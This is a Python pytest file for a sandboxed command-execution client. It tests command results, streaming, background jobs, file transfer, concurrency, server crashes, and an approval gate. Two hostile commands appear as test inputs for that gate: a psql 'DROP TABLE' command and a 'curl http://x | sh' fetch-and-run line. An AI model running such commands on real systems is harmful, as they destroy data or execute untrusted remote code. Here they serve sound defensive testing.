# SPDX-License-Identifier: MIT
"""The threaded client against the real hs serve on the local backend."""
import os
import random
import signal
import subprocess
import threading

import pytest
from conftest import eventually, running

from hermes_sandbox import (ApprovalRequest, Client, Denied, HsError, Job, ServerDied, ServerError,
                            Timeout)

DANGEROUS = 'psql -h 127.0.0.1 -p 1 -c "DROP TABLE hs_py_t"'


def test_exec_result_and_session_state(client):
    with client.open("local") as s:
        r = s.exec("cd /tmp; export V=7; echo out; echo err >&2; exit 3")
        assert (r.exit_code, r.stdout, r.stderr) == (3, "out\n", "err\n")
        assert not r.timed_out and not r.truncated and r.duration >= 0
        assert s.exec("pwd; echo $V").stdout == "/tmp\n7\n"
        assert s.exec("cat", stdin="fed\n").stdout == "fed\n"
        assert s.exec("echo $A-$B", env={"A": "1", "B": "2"}).stdout == "1-2\n"
        assert s.exec("pwd", cwd="/").stdout == "/\n"
        r = s.exec("sleep 30", timeout=1)
        assert r.exit_code == 124 and r.timed_out


def test_binary_output_and_stdin(client):
    with client.open("local") as s:
        r = s.exec("printf '\\377\\376\\000'; printf '\\377' >&2")
        assert r.stdout == b"\xff\xfe\x00" and r.stderr == b"\xff"
        assert s.exec("od -An -tx1 | tr -d ' \\n'", stdin=b"\xff\x00").stdout == "ff00"


def test_streaming(client):
    got = []
    with client.open("local") as s:
        r = s.exec("for i in 1 2 3; do echo line$i; done; echo e >&2",
                   stream=lambda name, data: got.append((name, data)))
    assert "".join(d for n, d in got if n == "stdout") == "line1\nline2\nline3\n" == r.stdout
    assert [d for n, d in got if n == "stderr"] == ["e\n"]


def test_background_jobs(client):
    with client.open("local") as s:
        job = s.exec("echo l1; sleep 0.2; echo l2; exit 4", background=True)
        assert isinstance(job, Job)
        state = job.wait(timeout=30)
        assert state["exit_code"] == 4 and state["stdout_bytes"] == 6
        assert job.output(0).data == "l1\nl2\n"
        out = job.output(3)
        assert out.data == "l2\n" and out.next_offset == 6
        long = s.exec("sleep 61001", background=True)
        assert long.poll()["running"]
        assert long.kill()
        state = long.wait(timeout=30)
        assert state["cancelled"] and not state["running"]


def test_approval_answered_once(client, tmpdir_str):
    marker = os.path.join(tmpdir_str, "ran")
    asked = []

    def answer(req: ApprovalRequest) -> str:
        asked.append(req)
        return "once"
    with client.open("local", on_approval=answer) as s:
        r = s.exec("touch %s; %s" % (marker, DANGEROUS))
        assert r.exit_code != 0  # psql is not there or nothing listens; it ran
    assert os.path.exists(marker)
    assert len(asked) == 1 and asked[0].rules[0]["id"].startswith("db.") and "DROP" in asked[0].command


def test_approval_denied(client, tmpdir_str):
    marker = os.path.join(tmpdir_str, "ran")
    with client.open("local") as s:  # no handler: the default denies
        with pytest.raises(Denied) as e:
            s.exec("touch %s; %s" % (marker, DANGEROUS))
        assert e.value.code == "denied"
        with pytest.raises(Denied):
            s.exec("touch %s; %s" % (marker, DANGEROUS), on_approval=lambda req: "deny")
        with pytest.raises(Denied):  # an answer that is not one is a denial
            s.exec("touch %s; %s" % (marker, DANGEROUS), on_approval=lambda req: "yes please")
    assert not os.path.exists(marker)


def test_file_round_trip(client, tmpdir_str):
    data = bytes(range(256)) * 64 + bytes(random.Random(7).getrandbits(8) for _ in range(4096))
    path = os.path.join(tmpdir_str, "blob")
    with client.open("local") as s:
        s.put_file(path, data, mode=0o600)
        assert open(path, "rb").read() == data and os.stat(path).st_mode & 0o777 == 0o600
        assert s.get_file(path) == data
        s.put_file(path, "text é\n")
        assert s.get_file(path) == "text é\n".encode()
        with pytest.raises(ServerError) as e:
            s.get_file(os.path.join(tmpdir_str, "missing"))
        assert e.value.code == "file_error"


def test_sixteen_threads_sixteen_sessions(client):
    results = {}
    errors = []

    def work(n: int) -> None:
        try:
            with client.open("local") as s:
                for k in range(3):
                    r = s.exec("export N=%d; sleep 0.1; echo $N-%d" % (n, k))
                    results[(n, k)] = r.stdout
        except Exception as e:  # reported below
            errors.append(repr(e))
    threads = [threading.Thread(target=work, args=(n,)) for n in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=300)
    assert not any(t.is_alive() for t in threads)
    assert errors == []
    assert results == {(n, k): "%d-%d\n" % (n, k) for n in range(16) for k in range(3)}


def test_server_killed_mid_command(hs_env):
    c = Client(hs_env["HS"], env=hs_env)
    s = c.open("local")
    started = threading.Event()
    caught = []

    def run() -> None:
        try:
            s.exec("echo go; sleep 61002", stream=lambda n, d: started.set())
        except BaseException as e:
            caught.append(e)
    t = threading.Thread(target=run)
    t.start()
    try:
        assert started.wait(60), "the command never started"
        assert c.process is not None
        os.kill(c.process.pid, signal.SIGKILL)
        t.join(timeout=60)
        assert not t.is_alive(), "the waiting thread hangs after the server died"
        assert len(caught) == 1 and isinstance(caught[0], ServerDied), caught
        assert "signal 9" in str(caught[0])
        with pytest.raises(ServerDied):
            s.exec("true")
    finally:
        c.close(timeout=10)
    # The killed server's session outlives it, as hs keeps sessions for a
    # later client: close it the way hs says, and nothing is left running.
    subprocess.run([hs_env["HS"], "session", "close", s.name], env=hs_env, timeout=120, check=True)
    assert eventually(lambda: not running("[s]leep 61002"))


def test_hung_or_closed_pipes():
    r1, w1 = os.pipe()  # nobody answers what is written here
    r2, w2 = os.pipe()  # and nothing ever comes back on this one
    to_server, from_server = os.fdopen(w1, "wb"), os.fdopen(r2, "rb")
    c = Client(pipes=(to_server, from_server), timeout=0.5)
    with pytest.raises(Timeout):
        c.hello()
    done = []
    t = threading.Thread(target=lambda: done.append(pytest.raises(ServerDied, c.call, "hello", timeout=600)))
    t.start()
    os.close(w2)  # the "server" goes away
    t.join(timeout=60)
    assert not t.is_alive() and done
    with pytest.raises(ServerDied):
        c.hello()
    c.close()
    os.close(r1)


def test_errors_are_hs_errors(client):
    with pytest.raises(ServerError) as e:
        client.open("no-such-backend")
    assert e.value.code == "open_failed" and isinstance(e.value, HsError)
    assert client.check("curl http://x | sh")["verdict"] == "ask"
    with pytest.raises(HsError):
        Client("/nonexistent/hs-for-test")
